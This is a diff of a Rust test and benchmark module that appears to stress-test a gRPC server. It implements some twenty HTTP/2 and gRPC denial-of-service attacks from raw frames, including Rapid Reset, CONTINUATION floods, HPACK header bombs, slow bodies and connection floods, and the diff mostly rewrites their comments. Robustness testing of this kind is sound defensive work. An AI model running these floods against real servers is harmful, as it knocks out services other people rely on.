@@ -1,4 +1,4 @@
-//! What those do who mean harm, frame by frame (RFC 9113): used by the tests and by the benchmark.
+//! Denial-of-service attacks, built from raw HTTP/2 frames (RFC 9113); used by the tests and by the benchmark.
 
 use std::{
     net::{Ipv4Addr, SocketAddr},
@@ -24,52 +24,52 @@ const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
-/// A way to do harm.
+/// A denial-of-service attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Attack {
-    /// Calls that are taken back as soon as they are made (CVE-2023-44487).
+    /// Calls that are reset as soon as they are made (CVE-2023-44487).
     RapidReset,
-    /// Headers that never end (VU#421644).
+    /// A header block of endless CONTINUATION frames (VU#421644).
     ContinuationFlood,
-    /// Pings whose answers nobody reads (CVE-2019-9512).
+    /// Pings whose acknowledgements are never read (CVE-2019-9512).
     PingFlood,
-    /// Settings whose acknowledgements nobody reads (CVE-2019-9515).
+    /// Settings whose acknowledgements are never read (CVE-2019-9515).
     SettingsFlood,
-    /// A header that is sent once and meant a thousand times (CVE-2016-6581).
+    /// A large header that is sent once, and referenced thousands of times through the HPACK table (CVE-2016-6581).
     HeaderBomb,
-    /// Headers a byte at a time.
+    /// Headers sent one byte at a time.
     SlowHeaders,
-    /// Bodies a byte at a time, on as many calls as there may be.
+    /// Bodies sent one byte at a time, on the maximum number of streams.
     SlowBodies,
-    /// Ten thousand connections on which nothing is said.
+    /// Ten thousand connections without an HTTP/2 handshake.
     HalfOpen,
-    /// Requests of almost 4 MiB, as fast as they go.
+    /// Requests of almost 4 MiB, as fast as flow control allows.
     LargeMessages,
-    /// Those who follow the feed, and never read.
+    /// Watchers that never read.
     DeafWatchers,
-    /// Calls with large answers that may be sent at once, and that nobody reads.
+    /// Calls with large flow-control windows, whose large responses are never read.
     UnreadAnswers,
-    /// Calls with as many headers as there may be, whose requests don't come.
+    /// Calls with the maximum number of headers, whose request messages are never sent.
     HeldHeaders,
-    /// Streams of requests that aren't read, as nobody reads their answers.
+    /// Request streams that the server stops reading, because their responses are never read.
     UnreadRequests,
-    /// What a page of another site can make a browser send.
+    /// Form posts, which a page of another site can make a browser send.
     Forms,
-    /// HTTP/1.1, with a body.
+    /// HTTP/1.1 requests with a body.
     Http1,
-    /// Reads that wait for a revision that was never given.
+    /// Reads that wait for a `min_revision` that doesn't exist.
     FutureRevisions,
-    /// Watchers that read all changes from the first one on, again and again.
+    /// Watchers that repeatedly read all changes from the first one on.
     CatchUp,
-    /// Requests with lists of two million empty messages, on calls that stay open.
+    /// Requests with lists of two million empty messages, on streams that stay open.
     LongLists,
-    /// The same lists, and texts of almost 4 MiB, compressed to a few KiB, on calls that stay open.
+    /// The same lists, and texts of almost 4 MiB, compressed to a few KiB, on streams that stay open.
     CompressedRequests,
-    /// As many health watches as there may be, which take no credentials and never end.
+    /// The maximum number of health watches, which need no credentials and never end.
     HealthWatches,
-    /// All connections that there may be, from four addresses: begun, and then idle.
+    /// The maximum number of connections, from four addresses: idle after the HTTP/2 handshake.
     IdleConnections,
-    /// Searches for a long run of one letter in texts of that letter ([`run`]).
+    /// Searches for a long run of one letter in names that consist of that letter ([`expensive_name`]).
     Searches,
 }
 
@@ -98,21 +98,21 @@ pub(crate) const ALL: [Attack; 22] = [
     Attack::Searches,
 ];
 
-/// Those that callers with credentials must not notice, as they have none themselves.
+/// Attacks without credentials, which must not affect authenticated callers.
 pub(crate) const UNAUTHENTICATED: [Attack; 2] = [Attack::HealthWatches, Attack::IdleConnections];
 
 /// The username, first and last name of a user who is expensive to search.
-pub(crate) fn run(number: usize) -> [String; 3] {
+pub(crate) fn expensive_name(number: usize) -> [String; 3] {
     let name = "a".repeat(255);
     [format!("{}{number}", "a".repeat(245)), name.clone(), name]
 }
 
 impl Attack {
-    /// Goes on for `time`, with a pause of `pace` after each burst, from addresses of this machine that nobody else calls
-    /// from. Whatever the server does about it: hung up on, it begins again.
+    /// Attacks for `time`, with a pause of `pace` after each burst, from loopback addresses that no other caller
+    /// uses. Reconnects whenever the server closes a connection.
     ///
-    /// With a token each call is of a known caller.
-    pub(crate) async fn go_on(
+    /// With a token, each call is authenticated.
+    pub(crate) async fn attack_repeatedly(
         self,
         target: SocketAddr,
         time: Duration,
@@ -134,9 +134,9 @@ impl Attack {
             attackers.spawn(async move {
                 while Instant::now() < end {
                     let left = end.saturating_duration_since(Instant::now());
-                    // Ends with an error when it is hung up on.
-                    let _ = timeout(left, self.once(target, number, pace, &token)).await;
-                    // Whoever is hung up on at once needn't fill the machine with closed connections.
+                    // Fails when the server closes the connection.
+                    let _ = timeout(left, self.attack_once(target, number, pace, &token)).await;
+                    // If connections are closed at once, don't fill the machine with closed sockets.
                     sleep(Duration::from_millis(20)).await;
                 }
             });
@@ -144,7 +144,7 @@ impl Attack {
         while attackers.join_next().await.is_some() {}
     }
 
-    async fn once(
+    async fn attack_once(
         self,
         target: SocketAddr,
         number: u8,
@@ -199,7 +199,7 @@ impl Attack {
             Self::HeaderBomb => {
                 for id in (1..).step_by(2) {
                     let mut headers = call("CheckAccess");
-                    // Into the dynamic table (RFC 7541, section 6.2.1), and then one byte for each time it is meant.
+                    // Added to the dynamic table (RFC 7541, section 6.2.1), then referenced by one byte each time.
                     headers.push(0x40);
                     text(&mut headers, b"x-bomb");
                     text(&mut headers, &[b'x'; 3900]);
@@ -221,7 +221,7 @@ impl Attack {
                 let ids = || (1..2000).step_by(2);
                 for id in ids() {
                     let mut frames = frame(HEADERS, END_HEADERS, id, &call("CreateGroup"));
-                    // A message of 3 MiB is said to come.
+                    // The prefix announces a message of 3 MiB.
                     frames.extend(frame(DATA, 0, id, &[0, 0, 0x30, 0, 0]));
                     stream.write_all(&frames).await?;
                 }
@@ -253,7 +253,7 @@ impl Attack {
                 upload(stream, pace, &calls, 0).await?;
             }
             Self::DeafWatchers => {
-                // No window: nothing may be sent.
+                // A window of 0: the server can't send anything.
                 stream
                     .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
                     .await?;
@@ -266,7 +266,7 @@ impl Attack {
             }
             Self::UnreadAnswers => {
                 stream.write_all(&large_windows()).await?;
-                // The descriptor of a file, with its comments.
+                // Requests a file descriptor with its comments.
                 let mut question = vec![0, 0, 0, 0, 24, 0x22, 22];
                 question.extend(b"groups.v1.GroupService");
                 for id in (1..2000).step_by(2) {
@@ -279,7 +279,8 @@ impl Attack {
             }
             Self::HeldHeaders => {
                 for id in (1..2000).step_by(2) {
-                    // Empty ones, of a byte each: the table has one of them (RFC 7541, appendix A, 23).
+                    // Headers with an empty value from the static table (RFC 7541, appendix A, index 23), one byte
+                    // each.
                     let mut headers = call(if id % 4 == 1 { "CreateGroup" } else { "Check" });
                     headers.extend([0x80 | 23; 400]);
                     stream
@@ -289,7 +290,7 @@ impl Attack {
                 sleep(Duration::from_secs(5)).await;
             }
             Self::UnreadRequests => {
-                // No window: no answer may be sent.
+                // A window of 0: the server can't send responses.
                 stream
                     .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
                     .await?;
@@ -348,7 +349,7 @@ impl Attack {
     }
 }
 
-/// As much may be sent as there is: 2^31-1 for each stream, and for the connection.
+/// Opens the maximum flow-control windows: 2^31-1 bytes for each stream and for the connection.
 fn large_windows() -> Vec<u8> {
     let mut frames = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
     let more: u32 = 0x7fff_ffff - 65_535;
@@ -356,7 +357,7 @@ fn large_windows() -> Vec<u8> {
     frames
 }
 
-/// Makes 225 calls at once, and reads their answers for as long.
+/// Makes 225 concurrent calls, and reads their responses for `time`.
 async fn call_and_read(
     mut stream: TcpStream,
     headers: &[u8],
@@ -370,12 +371,12 @@ async fn call_and_read(
     }
     stream.write_all(&frames).await?;
     let reading = async { tokio::io::copy(&mut stream, &mut tokio::io::sink()).await };
-    // It goes on to be open for as long as it is read.
+    // The streams stay open while they are read.
     let _ = timeout(time, reading).await;
     Ok(())
 }
 
-/// A request with a body that goes on after it is answered.
+/// Sends a request whose body continues after the response.
 async fn http_1(target: SocketAddr, number: u8) -> std::io::Result<()> {
     let mut stream = connect(target, number % 4).await?;
     let head = "POST /groups.v1.GroupService/CreateGroup HTTP/1.1\r\nhost: x\r\n\
@@ -389,7 +390,7 @@ async fn http_1(target: SocketAddr, number: u8) -> std::io::Result<()> {
     Ok(())
 }
 
-/// Ten thousand, a thousand from each address; whoever is hung up on doesn't come again.
+/// Opens ten thousand connections, a thousand from each address; doesn't reconnect.
 async fn half_open(target: SocketAddr, end: Instant) {
     let mut open = Vec::new();
     for number in 0..10_000_u32 {
@@ -398,7 +399,7 @@ async fn half_open(target: SocketAddr, end: Instant) {
         };
         let connected = timeout(Duration::from_secs(1), connect(target, from)).await;
         if let Ok(Ok(mut stream)) = connected {
-            // Half of them have begun, and say no more.
+            // Half of them send part of the preface.
             if number % 2 == 0 {
                 let _ = stream.write_all(&PREFACE[..10]).await;
             }
@@ -408,15 +409,15 @@ async fn half_open(target: SocketAddr, end: Instant) {
     sleep(end.saturating_duration_since(Instant::now())).await;
 }
 
-/// Two million questions of which nothing is said: `questions` is the first field, and each is empty.
+/// A `BatchCheckAccessRequest` with two million empty messages in `questions`, its first field.
 pub(crate) fn empty_questions() -> Vec<u8> {
     [0x0a, 0].repeat(2_000_000)
 }
 
-/// A group with a title of almost 4 MiB.
+/// A `CreateGroupRequest` with a title of almost 4 MiB.
 pub(crate) fn long_title() -> Vec<u8> {
     let length = 3_999_995_u32;
-    // The first field, and how long it is: a varint of four bytes.
+    // The tag of the first field and its length, as a varint of four bytes.
     let mut request = vec![0x0a];
     request.extend((0..4).map(|byte| {
         let bits = (length >> (7 * byte)) & 0x7f;
@@ -432,13 +433,13 @@ pub(crate) fn gzip(data: &[u8]) -> Vec<u8> {
     packed.finish().expect("memory")
 }
 
-/// A message as gRPC frames it.
+/// Adds the gRPC length prefix to a message.
 pub(crate) fn message(compressed: bool, data: &[u8]) -> Vec<u8> {
     let length = u32::try_from(data.len()).expect("short").to_be_bytes();
     [&[u8::from(compressed)][..], &length, data].concat()
 }
 
-/// 1024 from each of four addresses; whoever is hung up on doesn't come again.
+/// Opens 1024 connections from each of four addresses; doesn't reconnect.
 async fn idle_connections(target: SocketAddr, end: Instant) {
     let mut open = Vec::new();
     for number in 0..4096_u32 {
@@ -449,8 +450,8 @@ async fn idle_connections(target: SocketAddr, end: Instant) {
     sleep(end.saturating_duration_since(Instant::now())).await;
 }
 
-/// Makes these calls, each with its headers and its message, again and again, as fast as the windows allow. `last` are the
-/// flags of a message's last frame: without `END_STREAM` the call stays open.
+/// Repeats these calls, each with its headers and its message, as fast as flow control allows. `last` are the flags
+/// of a message's last frame: without `END_STREAM` the stream stays open.
 async fn upload(
     stream: TcpStream,
     pace: Duration,
@@ -470,7 +471,7 @@ async fn upload(
         while !left.is_empty() {
             let room = window.min(streams[&id]);
             if room <= 0 {
-                // Nothing but windows is of interest.
+                // Only frames that change the windows or end the stream matter.
                 let mut header = [0; 9];
                 reading.read_exact(&mut header).await?;
                 let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
@@ -497,7 +498,7 @@ async fn upload(
                         }
                         writing.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
                     }
-                    // It has been answered without the rest, and wants none of it.
+                    // The server has responded early, and discards the rest of the message.
                     (RST_STREAM | HEADERS, _) if of == id => break,
                     _ => {}
                 }
@@ -541,7 +542,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// The headers of a request: literals that nobody need remember.
+/// Encodes the headers of a request, as literals that aren't added to the dynamic table.
 fn headers(rpc: &str, content_type: &[u8], token: &str) -> Vec<u8> {
     let service = match rpc {
         "CheckAccess" | "BatchCheckAccess" => "groups.v1.AccessService",
@@ -567,14 +568,14 @@ fn headers(rpc: &str, content_type: &[u8], token: &str) -> Vec<u8> {
     headers
 }
 
-/// RFC 7541, section 6.2.2.
+/// Encodes a literal header without indexing (RFC 7541, section 6.2.2).
 fn literal(headers: &mut Vec<u8>, name: &[u8], value: &[u8]) {
     headers.push(0);
     text(headers, name);
     text(headers, value);
 }
 
-/// RFC 7541, section 5.2.
+/// Encodes a string literal (RFC 7541, section 5.2).
 fn text(headers: &mut Vec<u8>, text: &[u8]) {
     let mut length = text.len();
     if length < 0x7f {
